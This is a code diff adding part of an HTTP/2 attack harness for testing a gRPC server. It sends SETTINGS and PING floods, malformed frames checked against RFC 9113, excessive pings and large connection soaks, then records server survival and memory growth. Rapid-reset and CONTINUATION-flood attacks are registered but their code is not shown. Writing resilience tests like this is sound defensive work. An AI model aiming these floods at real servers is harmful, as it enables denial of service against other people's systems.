+        if not conn.closed and conn.goaway is None:
+            outcome.fail(f"the connection survived {sent} unacknowledged {name} frames")
+        elif conn.goaway is None and not ended_while_flooding:
+            outcome.note(ended="close-without-goaway")
+    finally:
+        conn.close()
+
+
+def attack_settings_flood(watch, outcome):
+    """SETTINGS frames (INITIAL_WINDOW_SIZE 65535), never reading the ACKs."""
+    flood(watch, outcome, frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65535)), "settings")
+
+
+def attack_ping_flood(watch, outcome):
+    """PING frames, never reading the ACKs."""
+    flood(watch, outcome, frame(PING, 0, 0, b"floodping"[:8]), "ping")
+
+
+MALFORMED_CASES = [
+    # (name, expected GOAWAY code or None for "connection closed", RFC 9113 section)
+    ("bad-preface", None, "3.4"),
+    ("data-on-stream-0", 0x1, "6.1"),
+    ("oversized-settings", 0x6, "4.2"),
+    ("invalid-padding", 0x1, "6.1"),
+    ("window-update-overflow", 0x3, "6.9.1"),
+    ("ping-wrong-length", 0x6, "6.7"),
+]
+
+
+def malformed_bytes(name, port, max_frame_size=16_384):
+    block = request_block(port, "EmptyCall")
+    if name == "data-on-stream-0":
+        return frame(DATA, 0, 0, b"\x00" * 8)
+    if name == "oversized-settings":  # ENABLE_PUSH=0 entries, one more than SETTINGS_MAX_FRAME_SIZE holds
+        return frame(SETTINGS, 0, 0, struct.pack(">HI", 0x2, 0) * (max_frame_size // 6 + 1))
+    if name == "invalid-padding":  # pad length 10 in a 5-byte payload
+        return frame(HEADERS, END_HEADERS, 1, block) + frame(DATA, PADDED, 1, b"\x0a\x00\x00\x00\x00")
+    if name == "window-update-overflow":
+        return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF))
+    if name == "ping-wrong-length":
+        return frame(PING, 0, 0, b"\x00" * 6)
+    raise ValueError(name)
+
+
+def attack_malformed(watch, outcome):
+    """A handful of protocol violations, each on a fresh connection, each answered as RFC 9113 says:
+    bad preface (connection closed), DATA on stream 0 and invalid padding (PROTOCOL_ERROR), oversized
+    SETTINGS (one entry more than the server's SETTINGS_MAX_FRAME_SIZE) and a 6-byte PING (FRAME_SIZE_ERROR), WINDOW_UPDATE overflowing the connection window
+    (FLOW_CONTROL_ERROR)."""
+    watch.launch_canary(delay=0.2)
+    results = []
+    for name, expected, section in MALFORMED_CASES:
+        conn = RawConnection(watch.port)
+        try:
+            if name == "bad-preface":
+                conn.send(b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n" + frame(SETTINGS, 0, 0))
+            else:
+                conn.handshake()
+                conn.receive(0.1)
+                conn.send(malformed_bytes(name, watch.port, conn.settings.get(0x5, 16_384)))
+            conn.wait_closed(3)
+            seen = goaway_text(conn.goaway) if conn.goaway else ("closed" if conn.closed else "open")
+            results.append(f"{name}:{seen}")
+            if expected is None:
+                if not conn.closed:
+                    outcome.fail(f"{name}: the connection stayed open (RFC 9113 {section})")
+            elif conn.goaway is None or conn.goaway[1] != expected:
+                outcome.fail(f"{name}: expected GOAWAY {error_name(expected)} (RFC 9113 {section}), saw {seen}")
+        finally:
+            conn.close()
+    watch.wait_canary()
+    outcome.note(cases=",".join(results))
+
+
+def attack_too_many_pings(watch, outcome):
+    """A client without calls sends a PING every 100 ms (at most 50, 6 s). Expected: GOAWAY
+    ENHANCE_YOUR_CALM with debug data "too_many_pings", as gRPC servers answer after a few strikes."""
+    conn = RawConnection(watch.port)
+    try:
+        conn.handshake()
+        watch.launch_canary(delay=0.5)
+        pings = 0
+        deadline = now() + 6.0
+        while pings < 50 and now() < deadline and not conn.closed and conn.goaway is None:
+            conn.send(frame(PING, 0, 0, struct.pack(">Q", pings)))
+            pings += 1
+            step = now() + 0.1
+            while now() < step and not conn.closed and conn.goaway is None:
+                conn.receive(max(step - now(), 0))
+        conn.wait_closed(2)
+        watch.wait_canary()
+        debug = conn.goaway[2].decode("latin-1") if conn.goaway else ""
+        outcome.note(pings=pings, ping_acks=conn.counts[PING], goaway=goaway_text(conn.goaway),
+                     goaway_debug=re.sub(r"\s", "_", debug) or "none")
+        if conn.goaway is None or conn.goaway[1] != 0xB or "too_many_pings" not in debug:
+            outcome.fail(f"{pings} pings at 100 ms without calls: expected GOAWAY ENHANCE_YOUR_CALM "
+                         f"\"too_many_pings\", saw {goaway_text(conn.goaway)} {debug!r}")
+    finally:
+        conn.close()
+
+
+def raise_fd_limit(wanted):
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    target = wanted if hard == resource.RLIM_INFINITY else min(hard, wanted)
+    if soft < target:
+        resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))
+    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]
+
+
+def concurrent_calls(port, connections, streams, timeout):
+    """Opens `connections` connections, each making `streams` UnaryCalls at once; returns (the open
+    connections, how many calls returned grpc-status 0). The caller closes the connections."""
+    payload = unary_call_bytes(port, streams)
+    conns = []
+    selector = selectors.DefaultSelector()
+    deadline = now() + timeout
+    for _ in range(connections):
+        if now() >= deadline:
+            break
+        try:
+            conn = RawConnection(port, timeout=5)
+        except OSError:
+            break
+        conns.append(conn)
+        conn.send(payload, timeout=0)
+        selector.register(conn.sock, selectors.EVENT_READ, conn)
+    wanted = [1 + 2 * index for index in range(streams)]
+    pending = set(range(len(conns)))
+    index_of = {id(conn): index for index, conn in enumerate(conns)}
+    while pending and now() < deadline:
+        for key, _ in selector.select(timeout=0.2):
+            conn = key.data
+            conn.read_available()
+            if conn.closed or all(s in conn.ended or s in conn.resets for s in wanted):
+                pending.discard(index_of[id(conn)])
+                selector.unregister(conn.sock)
+        for index in list(pending):
+            if conns[index].outbox:
+                conns[index].flush(0)
+    selector.close()
+    ok = sum(1 for conn in conns for s in wanted if conn.header(s, "grpc-status") == "0")
+    return conns, ok
+
+
+def attack_soak_concurrent(watch, outcome):
+    """1,000 concurrent connections x 10 UnaryCalls each, held open together, then all closed. Expected:
+    every call succeeds and, once they are closed, the RSS returns within 10 % of its level before
+    (measured after a warm-up of 20 x 10 calls, so first-use allocations do not count)."""
+    outcome.note(client_fd_limit=raise_fd_limit(4096))
+    limit = watch.fd_limit()
+    if limit is not None and limit < 1_100:
+        outcome.fail(f"the server may open only {limit} files; 1,000 connections need more (raise ulimit -n)")
+        return
+    conns, _ = concurrent_calls(watch.port, 20, 10, timeout=20)
+    for conn in conns:
+        conn.close()
+    watch.before = watch.settle(2.0)
+    started = now()
+    conns, ok = concurrent_calls(watch.port, 1_000, 10, timeout=40)
+    outcome.note(connections=len(conns), calls_ok=ok, seconds=f"{now() - started:.1f}")
+    watch.launch_canary()
+    watch.wait_canary()
+    for conn in conns:
+        conn.close()
+    if ok < 10_000:
+        outcome.fail(f"only {ok} of 10,000 concurrent calls succeeded on {len(conns)} connections")
+    watch.after_bound = lambda before: int(before * SOAK_CONCURRENT_RATIO)
+
+
+def attack_soak_sequential(watch, outcome):
+    """10,000 connections, one after another, each making one UnaryCall (at most 50 s). Expected: every
+    call succeeds and RSS ends within 8 MiB of its level after a 200-connection warm-up (a per-connection
+    leak of 1 KiB already shows as 10 MiB)."""
+    payload = unary_call_bytes(watch.port, 1)
+
+    def one_call():
+        try:
+            conn = RawConnection(watch.port, timeout=5)
+        except OSError:
+            return False
+        try:
+            conn.send(payload, timeout=5)
+            deadline = now() + 5.0
+            while not conn.closed and 1 not in conn.ended and 1 not in conn.resets and now() < deadline:
+                conn.receive(min(0.1, deadline - now()))
+            return conn.header(1, "grpc-status") == "0"
+        finally:
+            conn.close()
+
+    for _ in range(200):
+        one_call()
+    watch.before = watch.settle(2.0)
+    watch.launch_canary(delay=5.0)
+    ok, done = 0, 0
+    started = now()
+    deadline = started + 50.0
+    while done < 10_000 and now() < deadline:
+        ok += one_call()
+        done += 1
+    watch.wait_canary()
+    seconds = now() - started
+    outcome.note(connections=done, calls_ok=ok, seconds=f"{seconds:.1f}")
+    if done < 10_000:
+        outcome.fail(f"only {done} of 10,000 sequential connections within 50 s")
+    if ok < done:
+        outcome.fail(f"{done - ok} of {done} sequential calls failed")
+    watch.after_bound = lambda before: before + SOAK_SEQUENTIAL_BOUND_KIB
+
+
+ATTACKS = {
+    "unread-after-status": attack_unread_after_status,
+    "unfinished-large": attack_unfinished_large,
+    "header-list": attack_header_list,
+    "hpack-amplification": attack_hpack_amplification,
+    "rapid-reset": attack_rapid_reset,
+    "continuation-flood": attack_continuation_flood,
+    "settings-flood": attack_settings_flood,
+    "ping-flood": attack_ping_flood,
+    "malformed": attack_malformed,
+    "too-many-pings": attack_too_many_pings,
+    "soak-concurrent": attack_soak_concurrent,
+    "soak-sequential": attack_soak_sequential,
+}
+
+
+# ----------------------------------------------------------------------------------------------- driver
+
+def run(name, port, pid, canary):
+    watch = Watch(port, pid, canary)
+    watch.before = watch.settle(1.0)
+    watch.after_bound = None
+    outcome = Outcome()
+    watch.start_sampling()
+    started = now()
+    try:
+        ATTACKS[name](watch, outcome)
+    except Exception as error:  # noqa: BLE001 - reported as the attack's failure
+        outcome.fail(f"attack crashed: {type(error).__name__}: {error}")
+    watch.wait_canary()
+    elapsed = now() - started
+    before = watch.before
+    target = watch.after_bound(before) if (watch.after_bound and before is not None) else None
+    after = watch.settle(10.0 if target is not None else 3.0, target)
+    watch.stop_sampling()
+    alive = watch.alive()
+    after_canary = canary_call(port) if canary else None
+    if alive is None:
+        alive = after_canary[0] if after_canary else True
+    fields = {"attack": name}
+    fields["alive"] = "yes" if alive else "no"
+    fields["canary_during"] = "skipped" if watch.during_result is None else (
+        "ok" if watch.during_result[0] else "fail")
+    fields["canary_after"] = "skipped" if after_canary is None else ("ok" if after_canary[0] else "fail")
+    fields["rss_before_kib"] = before if before is not None else "na"
+    fields["rss_peak_kib"] = watch.peak if watch.peak is not None else "na"
+    fields["rss_after_kib"] = after if after is not None else "na"
+    if not alive:
+        outcome.fail("the server died")
+    if watch.during_result is not None and not watch.during_result[0]:
+        outcome.fail(f"the canary call during the attack failed: {watch.during_result[1]}")
+    if after_canary is not None and not after_canary[0]:
+        outcome.fail(f"the canary call after the attack failed: {after_canary[1]}")
+    if before is not None and after is not None and watch.peak is not None:
+        if target is not None:
+            fields["rss_bound"] = f"after<={target}"
+            if after > target:
+                outcome.fail(f"RSS after is {after} KiB, above the bound {target} KiB "
+                             f"({(after - before) / KiB:+.1f} MiB from {before} KiB)")
+        else:
+            fields["rss_bound"] = f"peak-before<={ATTACK_RSS_BOUND_KIB}"
+            if watch.peak - before > ATTACK_RSS_BOUND_KIB:
+                outcome.fail(f"RSS rose by {(watch.peak - before) / KiB:.0f} MiB during the attack "
+                             f"(bound {ATTACK_RSS_BOUND_KIB // KiB} MiB)")
+    else:
+        fields["rss_bound"] = "unmeasured"
+    fields.update(outcome.fields)
+    fields["seconds"] = f"{elapsed:.1f}"
+    fields["pass"] = "yes" if outcome.expected else "no"
+    reason = "; ".join(outcome.reasons) or "as expected"
+    line = " ".join(f"{key}={value}" for key, value in fields.items())
+    print(f"RESULT {line} reason=\"{reason.replace(chr(34), chr(39))}\"", flush=True)
+    return 0 if outcome.expected else 1
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("attack", nargs="?", choices=sorted(ATTACKS))
+    parser.add_argument("--list", action="store_true", help="print the attack names and exit")
+    parser.add_argument("--port", type=int)
+    parser.add_argument("--server-pid", type=int, help="the server's pid (default: the owner of the port)")
+    parser.add_argument("--canary", action="store_true", help="make a normal call during and after the attack")
+    args = parser.parse_args()
+    if args.list:
+        print("\n".join(ATTACKS))
+        return 0
+    if not args.attack or not args.port:
+        parser.error("an attack and --port are needed (or --list)")
+    pid = args.server_pid or find_server_pid(args.port)
+    if pid is None:
+        print(f"h2_attacks: no process found listening on port {args.port}; RSS is not measured", file=sys.stderr)
+    return run(args.attack, args.port, pid, args.canary)
+
+
+if __name__ == "__main__":
+    sys.exit(main())
